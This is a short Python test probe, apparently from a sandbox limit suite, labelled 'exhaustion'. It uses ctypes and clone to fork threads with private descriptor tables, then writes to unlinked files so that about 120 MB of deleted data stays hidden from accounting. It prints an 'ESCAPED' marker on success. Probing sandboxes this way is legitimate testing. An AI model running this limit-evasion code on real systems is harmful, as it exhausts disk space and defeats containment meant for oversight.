#: kind = "exhaustion"
#: does = "Clones threads that do not share the table of descriptors: deleted files live on in their copies."
#: status = ["killed", "error", "ok"]
#: limits = {wall_s = 3.0}
import ctypes
import os
import time

VM, SIGHAND, THREAD, FILES = 0x100, 0x800, 0x10000, 0x400
libc = ctypes.CDLL(None, use_errno=True)
chunk = b"\x01" * (1 << 20)
stacks = []
hidden = 0
for flags in (VM | SIGHAND | THREAD, SIGHAND | THREAD | VM | 0x200):
    try:
        while hidden < 120 << 20:
            descriptor = os.open("ghost", os.O_CREAT | os.O_RDWR | os.O_EXCL)
            os.unlink("ghost")
            stacks.append(ctypes.create_string_buffer(65536))
            top = (ctypes.addressof(stacks[-1]) + 65000) & ~63
            if libc.clone(libc.pause, ctypes.c_void_p(top), flags, None) < 0:
                raise OSError(ctypes.get_errno(), "clone")
            for _ in range(12):
                hidden += os.write(descriptor, chunk)
            os.close(descriptor)
        time.sleep(0.1)
        print("ESC" + "APED", flush=True)
        break
    except OSError as problem:
        print(flags, problem.errno, hidden >> 20, flush=True)
